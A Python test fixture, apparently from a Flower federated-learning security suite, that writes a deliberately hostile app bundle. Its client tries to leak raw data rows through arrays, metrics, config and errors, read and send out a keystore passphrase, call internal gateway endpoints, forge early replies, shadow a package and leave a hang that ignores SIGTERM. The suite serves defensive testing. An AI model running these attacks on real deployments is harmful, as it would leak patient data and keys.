"""A bundle that does everything a hospital fears; its code travels in the bundle. The ServerApp asks for one attack after the other.

What the ClientApp could do, it notes in the file ``notes`` of the node config, since nothing of it should arrive by the network; what
arrives is what the ServerApp notes in ``report``.
"""

from __future__ import annotations

from pathlib import Path

ATTACKS = ("rows", "metrics", "config", "error", "names", "keystore", "gateway", "twice", "shadow")

SERVER = """
import json
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()
ATTACKS = {attacks!r}


@app.main()
def main(grid, context):
    import time
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.5)
    chosen = str(context.run_config["attacks"])
    with open(str(context.run_config["report"]), "a") as report:
        for attack in chosen.split(",") if chosen else ATTACKS:
            ask = RecordDict({{"ask": ConfigRecord({{"attack": attack}})}})
            message = Message(ask, dst_node_id=nodes[0], message_type="train", ttl=float(context.run_config["ttl"]))
            for reply in grid.send_and_receive([message], timeout=float(context.run_config["ttl"])):
                error = [reply.error.code, reply.error.reason] if reply.has_error() else None
                content = "" if reply.has_error() else repr(reply.content)
                report.write(json.dumps({{"attack": attack, "error": error, "content": content}}) + "\\n")
                report.flush()
"""

CLIENT = '''
import json
import urllib.error
import urllib.request
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


def where(context, name):
    return str(context.node_config.get(name) or context.run_config[name])


def note(context, **facts):
    with open(where(context, "notes"), "a") as notes:
        notes.write(json.dumps(facts) + "\\n")


@app.train()
def train(message, context):
    attack = str(message.content["ask"]["attack"])
    rows = Path(where(context, "data")).read_bytes()[:4096]
    note(context, attack=attack, rows=len(rows))
    content = RecordDict()
    if attack == "rows":
        content["suture-sealed"] = ArrayRecord({"frame": Array("uint8", (len(rows),), "suture.sealed.v1", rows)})
    if attack == "metrics":
        content["metrics"] = MetricRecord({"train-ms": [float(b) for b in rows]})
    if attack == "config":
        content["suture"] = ConfigRecord({"status": rows})
    if attack == "hang":
        import os, signal, time
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                note(context, attack="daemon", pid=os.getpid())
                time.sleep(3600)
            os._exit(0)
        note(context, attack="hung", pid=os.getpid())
        while True:
            time.sleep(3600)
    if attack == "error":
        raise ValueError(rows.decode())
    if attack == "names":
        content["suture-sealed"] = ArrayRecord({rows.hex(): Array(np.zeros(3, np.float32))})
    if attack == "keystore":
        try:
            key = Path(where(context, "keys"), "passphrase").read_bytes()
            note(context, attack="keystore read", bytes=len(key))
            content["k"] = ArrayRecord({"k": Array("uint8", (len(key),), "x", key)})
        except OSError as error:
            note(context, attack="keystore refused", why=type(error).__name__)
    if attack == "gateway":
        for path in ("/v1/control/start-run", "/v1/runtime/push-logs", "/v1/fleet/push-object", "/health"):
            url = str(context.node_config["gateway"]) + path
            request = urllib.request.Request(url, data=rows, headers={"content-type": "application/x-protobuf"})
            try:
                status = urllib.request.urlopen(request, timeout=10).status
            except urllib.error.HTTPError as error:
                status = error.code
            note(context, attack="call", path=path, status=status)
    reply = Message(content, reply_to=message)
    if attack == "twice":
        push(context, reply)
    if attack == "shadow":
        import clients
        note(context, attack="shadowed", file=str(clients.__file__))
    return reply


def push(context, reply):
    """Answer behind the SuperNode's back; the SuperNode answers too."""
    from flwr.app import Error
    from flwr.common.serde import message_to_proto
    from flwr.proto.fleet_pb2 import PushMessagesRequest
    from flwr.supercore.inflatable.inflatable_object import get_object_tree

    early = Message(Error(1, "early"), reply_to=reply)
    early.metadata.__dict__.update({k: v for k, v in reply.metadata.__dict__.items()})
    early.metadata.__dict__["_message_id"] = early.object_id
    request = PushMessagesRequest(messages_list=[message_to_proto(early)], message_object_trees=[get_object_tree(early)])
    body = request.SerializeToString()
    url = str(context.node_config["gateway"]) + "/v1/fleet/push-messages"
    urllib.request.urlopen(urllib.request.Request(url, data=body, headers={"content-type": "application/x-protobuf"}))
    import time
    time.sleep(2)
'''

CONFIG = """\
[project]
name = "hostile"
version = "0.1.0"

[tool.flwr.app]
publisher = "somebody"

[tool.flwr.app.components]
serverapp = "hostile_bundle.server:app"
clientapp = "hostile_bundle.client:app"

[tool.flwr.app.config]
report = ""
notes = ""
data = ""
keys = ""
attacks = ""
ttl = 60.0
"""


def write(folder: Path, *, attacks: tuple[str, ...] = ATTACKS, note: str = "") -> Path:
    """Write the app; ``note`` changes its digest and nothing else."""
    package = folder / "hostile_bundle"
    package.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(CONFIG)
    (package / "__init__.py").write_text(f'"""Hostile. {note}"""\n')
    (package / "server.py").write_text(SERVER.format(attacks=attacks))
    (package / "client.py").write_text(CLIENT)
    shadow = folder / "clients"
    shadow.mkdir()
    (shadow / "__init__.py").write_text('"""Stands in for the installed package."""\n')
    return folder
